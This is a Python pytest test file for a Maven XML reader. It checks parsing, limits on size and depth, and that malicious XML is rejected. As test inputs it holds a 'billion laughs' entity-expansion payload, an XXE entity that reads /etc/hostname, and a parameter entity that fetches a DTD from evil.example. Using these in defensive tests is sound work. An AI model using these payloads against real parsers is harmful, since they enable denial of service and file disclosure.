"""The XML reader: lines, bounds, and files made to harm."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from logdoctor.setup_files.maven import read_maven
from logdoctor.setup_files.xml import MAX_BYTES, MAX_DEPTH, MAX_ELEMENTS, XmlProblem, parse_xml, read_xml

if TYPE_CHECKING:
    from pathlib import Path

_LAUGHS = (
    b"<!DOCTYPE a [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><a>&j;</a>"
)


def test_lines_and_paths() -> None:
    root = parse_xml(b"<a>\n <b>\n  <c> x </c><c>y</c>\n </b>\n</a>")
    assert root.value("b", "c") == "x"
    assert [each.line for each in root.all("b", "c")] == [3, 3]
    assert root.first("b", "d") is None
    assert list(root.all("q", "c")) == []


def test_namespaces_and_comments_are_no_obstacle() -> None:
    root = parse_xml(b'<m:a xmlns:m="urn:x"><!-- <b>no</b> --><m:b><![CDATA[<yes>]]></m:b></m:a>')
    assert (root.name, root.value("b")) == ("a", "<yes>")


@pytest.mark.parametrize(
    ("data", "kind", "reason"),
    [
        (_LAUGHS, "not-xml", "entities"),
        (b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'>]><a>&x;</a>", "not-xml", "entities"),
        (b"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>%x;]><a/>", "not-xml", "entities"),
        (b"", "not-xml", "no element"),
        (b"<a><b></a>", "not-xml", "mismatched"),
        (b"<a>&nbsp;</a>", "not-xml", "entity"),
        (b"<?xml version='1.0' encoding='no-such'?><a/>", "not-xml", "encoding"),
        (b"<?xml version='1.0' encoding='rot13'?><a/>", "not-xml", "encoding"),
        (b"\x00" * 50, "not-xml", ""),
        (b"<a>" * (MAX_DEPTH + 1), "too-large", "deeper"),
        (b"<a>" + b"<b/>" * MAX_ELEMENTS + b"</a>", "too-large", "elements"),
        (b" " * (MAX_BYTES + 1), "too-large", "MiB"),
    ],
    ids=[
        "laughs",
        "file",
        "parameter",
        "empty",
        "mismatch",
        "html-entity",
        "encoding",
        "no-text-encoding",
        "zeros",
        "deep",
        "many",
        "big",
    ],
)
def test_what_is_not_read(data: bytes, kind: str, reason: str) -> None:
    with pytest.raises(XmlProblem) as caught:
        parse_xml(data)
    assert caught.value.kind == kind
    assert reason in caught.value.reason


def test_external_document_type_is_not_fetched() -> None:
    assert parse_xml(b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a>x</a>').text == "x"


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400) | st.text(alphabet="<>/!?&;[]ab= \"'\n", max_size=200).map(str.encode))
def test_any_bytes_give_a_node_or_a_problem(data: bytes) -> None:
    try:
        root = parse_xml(data)
    except XmlProblem:
        return
    assert root.line >= 1


def test_missing_folder_and_pipe(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    kinds = {}
    for name in ("missing", "pipe", ".", "bad\0name"):
        with pytest.raises(XmlProblem) as caught:
            read_xml(tmp_path / name)
        kinds[name] = caught.value.kind
    assert kinds == {"missing": "missing", "pipe": "unreadable", ".": "unreadable", "bad\0name": "unreadable"}


def test_missing_files_become_remarks(tmp_path: Path) -> None:
    setup = read_maven(tmp_path / "settings.xml", [tmp_path / "pom.xml"], tmp_path / "toolchains.xml")
    assert {each.code for each in setup.remarks} == {"settings-missing", "build-file-missing", "toolchains-missing"}
    assert setup.incomplete
